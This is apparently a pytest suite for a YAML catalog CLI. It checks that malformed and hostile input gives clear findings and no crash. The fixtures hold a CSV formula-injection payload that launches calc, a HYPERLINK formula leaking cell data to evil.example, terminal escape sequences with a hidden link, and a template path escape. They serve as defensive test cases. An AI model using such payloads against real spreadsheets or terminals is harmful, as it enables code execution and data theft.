"""Hostile input through the real commands: every bad file is a located finding or one clear line, never exit 3.

The cases are those of issue 16, each at the command where it used to end in an internal error.
"""

from __future__ import annotations

import pytest
from typer.testing import CliRunner

from govlist.cli import app

from conftest import write_set

BAD_SCALAR = "govlist: 1\nkind: duty\nid: a\ntitle: 甲\ndeclared: {items: 2}\nitems:\n  - name: 一\n    seq: 0x_\n"
GOOD = "govlist: 1\nkind: duty\nid: b\ntitle: 乙\ndeclared: {items: 1}\nitems:\n  - name: 一\n"


@pytest.fixture
def govlist(tmp_path, monkeypatch):
    """govlist(*args) -> Result, run in tmp_path in English; an exception escaping the CLI fails the test."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("GOVLIST_LANG", "en")
    runner = CliRunner()

    def run(*args: str):
        result = runner.invoke(app, [str(a) for a in args], catch_exceptions=True)
        if result.exception is not None and not isinstance(result.exception, SystemExit):
            raise AssertionError(f"govlist {' '.join(map(str, args))} raised {result.exception!r}") from result.exception
        assert result.exit_code != 3, result.output
        assert "internal error" not in result.output and "Traceback" not in result.output
        return result

    return run


@pytest.fixture
def bad_set(tmp_path):
    return write_set(tmp_path, {"govlist.yaml": "govlist: 1\nkind: project\nname: t\n", "a.yaml": BAD_SCALAR, "b.yaml": GOOD})


@pytest.mark.parametrize("command", [["validate", "."], ["validate", ".", "-f", "json"], ["validate", ".", "-f", "sarif"]])
def test_validate_reports_the_bad_scalar_and_checks_the_other_file(govlist, bad_set, command):
    result = govlist(*command)
    assert result.exit_code == 1
    assert "parse.value" in result.output and "b.yaml" in result.output


def test_stats_leaves_the_bad_file_out_and_counts_the_other(govlist, bad_set):
    result = govlist("stats", ".")
    assert result.exit_code == 0 and "a.yaml" in result.output and "乙" in result.output


def test_render_refuses_with_the_finding(govlist, bad_set):
    result = govlist("render", ".", "-o", "site")
    assert result.exit_code == 1 and "parse.value" in result.output and not (bad_set / "site").exists()
    assert govlist("render", ".", "-o", "site", "--allow-errors").exit_code == 0


def test_baseline_records_the_finding(govlist, bad_set):
    result = govlist("baseline", ".")
    assert result.exit_code == 0
    assert "parse.value" in (bad_set / ".govlist-baseline.yaml").read_text(encoding="utf-8")


def test_export_names_the_file_and_position(govlist, bad_set):
    result = govlist("export", "a.yaml", "-o", "a.csv")
    assert result.exit_code == 2 and "a.yaml:8:10" in result.output
    assert not (bad_set / "a.csv").exists()


@pytest.mark.parametrize("order", [("a.yaml", "b.yaml"), ("b.yaml", "a.yaml")])
def test_diff_reports_the_bad_side_as_a_finding(govlist, bad_set, order):
    result = govlist("diff", *order)
    assert result.exit_code in (0, 1) and "a.yaml:8:10" in result.output and "parse.value" in result.output


# --- baseline ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("until, needle", [("0x_", "'0x_' cannot be read as an integer"), ("[1, {a: 2}]", "until must be a date")])
def test_a_bad_date_in_the_baseline_names_the_baseline_not_the_clock(govlist, bad_set, until, needle):
    govlist("baseline", ".")
    path = bad_set / ".govlist-baseline.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("    rule:", f"    until: {until}\n    rule:", 1), encoding="utf-8")
    for command in (["validate", "."], ["baseline", "."]):
        result = govlist(*command)
        assert result.exit_code == 2 and ".govlist-baseline.yaml:" in result.output and needle in result.output
        assert "GOVLIST_TODAY" not in result.output
    assert path.read_text(encoding="utf-8").count("until:") == 1  # govlist baseline did not overwrite it


# --- export -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("extra, where", [("declared: [1]\nitems:\n  - name: 一\n", "e.yaml:5:11"), ("items: 5\n", "e.yaml:5:8"), ("items:\n  - name: [a, b]\n", "e.yaml:6:11")])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_refuses_a_schema_invalid_catalog(govlist, tmp_path, extra, where, fmt):
    (tmp_path / "e.yaml").write_text("govlist: 1\nkind: duty\nid: a\ntitle: t\n" + extra, encoding="utf-8")
    result = govlist("export", "e.yaml", "-o", f"e.{fmt}")
    assert result.exit_code == 2 and where in result.output and "not exported" in result.output
    assert not (tmp_path / f"e.{fmt}").exists()


FORMULAS = """\
govlist: 1
kind: duty
id: a
title: "=cmd|' /C calc'!A0"
items:
  - name: "=HYPERLINK(\\"http://evil.example/?leak=\\"&A3,\\"点击\\")"
    content: "'=already quoted"
    code: "-1"
  - name: "'plain quote"
    content: "@SUM(1)"
  - name: "+1"
    content: "-2 (a leading tab or space is trimmed by import anyway)"
"""


def test_csv_export_neutralises_formulas_and_import_restores_them(govlist, tmp_path):
    import csv
    import io

    import yaml

    (tmp_path / "f.yaml").write_text(FORMULAS, encoding="utf-8")
    assert govlist("export", "f.yaml", "-o", "f.csv").exit_code == 0
    cells = [c for row in csv.reader(io.StringIO((tmp_path / "f.csv").read_text(encoding="utf-8-sig"))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A3,\"点击\")" in cells and "''=already quoted" in cells and "'plain quote" in cells
    assert govlist("import", "f.csv", "--kind", "duty", "-o", "g.yaml").exit_code == 0
    before = yaml.safe_load(FORMULAS)
    after = yaml.safe_load((tmp_path / "g.yaml").read_text(encoding="utf-8"))
    assert after == before


def test_neutralise_and_restore_are_inverse():
    from govlist.formulas import neutralise, restore

    for value in ["=1", "'=1", "''=1", "'", "''", "'abc", "abc", "-", "@", "\t", "\r\n", "", "＝全角", 5, None]:
        assert restore(neutralise(value)) == value
        assert not str(neutralise(value)).startswith(("=", "+", "-", "@", "\t", "\r"))


# --- what reaches the terminal and the report files -------------------------------------------------------------------

ESCAPES = 'govlist: 1\nkind: duty\nid: a\ntitle: t\ndeclared: {items: 2}\nitems:\n  - name: "\\e[2J\\e]8;;http://evil\\a点击\\e]8;;\\a\\u202e"\n  - name: "\\e[2J\\e]8;;http://evil\\a点击\\e]8;;\\a\\u202e"\n'


@pytest.mark.parametrize("command", [["validate", "."], ["stats", "."], ["diff", "a.yaml", "b.yaml"]])
def test_control_characters_in_catalog_text_are_escaped_on_the_terminal(govlist, tmp_path, command):
    (tmp_path / "a.yaml").write_text(ESCAPES, encoding="utf-8")
    (tmp_path / "b.yaml").write_text(ESCAPES.replace("点击", "点"), encoding="utf-8")
    output = govlist(*command).output
    assert "\x1b" not in output and "\x07" not in output and "\u202e" not in output
    if command[0] != "stats":
        assert "\\x1b[2J\\x1b]8;;http://evil\\x07" in output


def test_printable_escapes_controls_and_keeps_text():
    from govlist.display import printable

    assert printable("巡查\x1b[31m\x9b\u202e\n") == "巡查\\x1b[31m\\x9b\\u202e\\x0a"
    assert printable("一\n二\x07", keep_newlines=True) == "一\n二\\x07"


@pytest.mark.skipif(__import__("sys").platform in ("win32", "darwin"), reason="needs a file system that takes any bytes as a name")
@pytest.mark.parametrize("fmt", ["json", "sarif", "junit", "github", "text"])
def test_a_file_name_that_is_not_utf8_is_written_safely(govlist, tmp_path, fmt):
    import json
    import os

    os.chdir(tmp_path)
    with open(os.fsencode(tmp_path) + b"/\xff\xfe-bad.yaml", "wb") as handle:
        handle.write(GOOD.replace("items: 1", "items: 2").encode("utf-8"))
    result = govlist("validate", ".", "-f", fmt, "-o", f"r.{fmt}")
    assert result.exit_code == 1
    raw = (tmp_path / f"r.{fmt}").read_bytes()
    text = raw.decode("utf-8")  # valid UTF-8
    shown = {"json": lambda: json.loads(text)["findings"][0]["file"], "sarif": lambda: json.loads(text)["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]}
    assert (shown[fmt]() if fmt in shown else text).count("xff") >= 1
    stdout = govlist("validate", ".", "-f", fmt).stdout_bytes
    stdout.decode("utf-8")


def test_diff_reports_a_fifo_on_one_side_and_compares_the_rest(govlist, tmp_path):
    import os

    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs on this OS")
    for side in ("old", "new"):
        (tmp_path / side).mkdir()
        (tmp_path / side / "b.yaml").write_text(GOOD, encoding="utf-8")
    os.mkfifo(tmp_path / "new" / "f.yaml")
    result = govlist("diff", "old", "new")
    assert "new/f.yaml:1:1" in result.output and "parse.io" in result.output


# --- bounded work -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("old, new", [("a" * 20_000, "b" * 20_000), ("网格" * 10_000, "网格" * 9_999 + "巡查"), ("巡查处置" * 5_000, "处置巡查" * 5_000), ("x" * 150_000, "y" * 60_000)])
def test_redline_of_long_fields_is_exact(old, new):
    """20,000 characters took difflib 45 s; the redline now comes from a bit-parallel LCS (or, past 200,000
    characters together, whole delete + insert) and still rebuilds both sides exactly."""
    from govlist.diff import redline

    segments = redline(old, new)
    assert "".join(t for op, t in segments if op != "insert") == old
    assert "".join(t for op, t in segments if op != "delete") == new


def test_redline_of_short_fields_reads_as_before():
    from govlist.diff import redline

    assert redline("婚育状况证明", "生育状况证明") == (("delete", "婚"), ("insert", "生"), ("equal", "育状况证明"))


def _names_catalog(names: list[str], category: bool = False) -> str:
    body = "".join(f"  - name: {n}\n" for n in names)
    return f"govlist: 1\nkind: duty\nid: a\ntitle: t\ndeclared: {{items: {len(names)}}}\nitems:\n{body}"


def test_near_duplicate_compares_long_names_and_says_what_it_skips(validate_set):
    long_a, long_b = "网格巡查" * 2_500, "网格巡查" * 2_499 + "网格检查"  # 10,000 characters: compared
    huge_a, huge_b = "巡" * 20_001, "巡" * 20_000 + "查"  # over 10,000: skipped, and said so
    report = validate_set({"a.yaml": _names_catalog([long_a, long_b, huge_a, huge_b])})
    near = [f for f in report.findings if f.rule == "names.near-duplicate"]
    assert [(f.line, "very similar" in f.message.en, "not compared" in f.message.en) for f in near] == [(8, True, False), (9, False, True)]
    assert "2 item names longer than 10000 characters" in near[1].message.en


def test_near_duplicate_says_when_a_category_is_too_large(validate_set, monkeypatch):
    from govlist.rules import names

    monkeypatch.setattr(names, "NEAR_MAX_GROUP", 5)
    report = validate_set({"a.yaml": _names_catalog([f"第{i}项网格巡查事项" for i in range(6)])})
    near = [f for f in report.findings if f.rule == "names.near-duplicate"]
    assert [(f.line, f.message.en) for f in near] == [(7, "this category has 6 items, more than 5; names were not compared by similarity")]


# --- templates ----------------------------------------------------------------------------------------------------------


def test_a_typst_override_cannot_read_outside_its_folder(govlist, tmp_path):
    from pathlib import Path

    from conftest import REPO

    (tmp_path / "secret.txt").write_text("SECRET", encoding="utf-8")
    tpl = tmp_path / "tpl"
    tpl.mkdir()
    (tpl / "list.typ").write_text('#read("../secret.txt")\n', encoding="utf-8")
    result = govlist("render", str(REPO / "catalogs" / "xx-district"), "-o", "site", "--pdf", "--templates", "tpl")
    assert result.exit_code == 2 and "escape the project root" in result.output
    assert not Path(tmp_path / "site").exists()


def test_a_typst_override_reads_files_in_its_own_folder(govlist, tmp_path):
    from conftest import REPO

    tpl = tmp_path / "tpl"
    tpl.mkdir()
    (tpl / "note.txt").write_text("本模板的附注", encoding="utf-8")
    (tpl / "list.typ").write_text('#read("note.txt")\n', encoding="utf-8")
    result = govlist("render", str(REPO / "catalogs" / "xx-district"), "-o", "site", "--pdf", "--templates", "tpl")
    assert result.exit_code == 0, result.output


# --- change.arithmetic when a list is gone from the new side -------------------------------------------------------


def test_change_arithmetic_for_a_list_missing_on_the_new_side_points_at_the_old_list(tmp_path, monkeypatch):
    from govlist.diff import diff_paths

    monkeypatch.chdir(tmp_path)
    (tmp_path / "old").mkdir()
    (tmp_path / "new").mkdir()
    (tmp_path / "old" / "a.yaml").write_text("govlist: 1\nkind: duty\nid: a\ntitle: 甲\ndeclared: {items: 3}\nitems:\n  - name: 一\n  - name: 二\n", encoding="utf-8")
    (tmp_path / "old" / "b.yaml").write_text(GOOD, encoding="utf-8")
    (tmp_path / "new" / "b.yaml").write_text(GOOD, encoding="utf-8")
    result = diff_paths("old", "new")
    found = [(f.file, f.line, f.column) for f in result.findings if f.rule == "change.arithmetic"]
    assert found == [("old/a.yaml", 1, 1)]


# --- found by the fuzzer --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("extra", ["categories: [[1], x]", "categories: 5", "units: [1, {a: 2}]"])
@pytest.mark.parametrize("kind, body", [("entry-rules", "items:\n  - name: 一\n"), ("registry", "units:\n  - name: 甲\n"), ("duty", "items:\n  - name: 一\n")])
def test_a_structure_key_the_kind_does_not_have_is_a_finding_not_a_crash(govlist, tmp_path, extra, kind, body):
    (tmp_path / "a.yaml").write_text(f"govlist: 1\nkind: {kind}\nid: a\ntitle: 甲\n{body}{extra}\n", encoding="utf-8")
    for command in (["validate", "."], ["stats", "."]):
        result = govlist(*command)
        assert result.exit_code in (0, 1)
    assert "a.yaml" in govlist("validate", ".").output


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_of_text_xml_cannot_hold(govlist, tmp_path, fmt):
    """U+FFFE, U+FFFF and control characters are valid in YAML text but not in an xlsx's XML: left out, not a crash."""
    (tmp_path / "a.yaml").write_text('govlist: 1\nkind: duty\nid: a\ntitle: "甲\\uFFFE"\nissuer: "\\uFFFF\\x07"\nitems:\n  - name: "一\\uFFFE"\n', encoding="utf-8")
    assert govlist("export", "a.yaml", "-o", f"a.{fmt}").exit_code == 0


def test_validate_reports_a_fifo_in_a_folder_without_waiting(tmp_path):
    """A FIFO named like a catalog was opened by the kind peek before any type check, so validate waited for a writer
    forever. Run as a user runs it, in its own process, with a time limit."""
    import os
    import subprocess
    import sys

    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs on this OS")
    (tmp_path / "good.yaml").write_text(GOOD, encoding="utf-8")
    os.mkfifo(tmp_path / "x.yaml")
    result = subprocess.run(
        [sys.executable, "-c", "from govlist.cli import run; run()", "validate", str(tmp_path), "--lang", "en"],
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=120,
        stdin=subprocess.DEVNULL,
    )
    assert "x.yaml" in result.stdout and "parse.io" in result.stdout and "not a regular file" in result.stdout, result.stdout + result.stderr
    assert result.returncode == 1
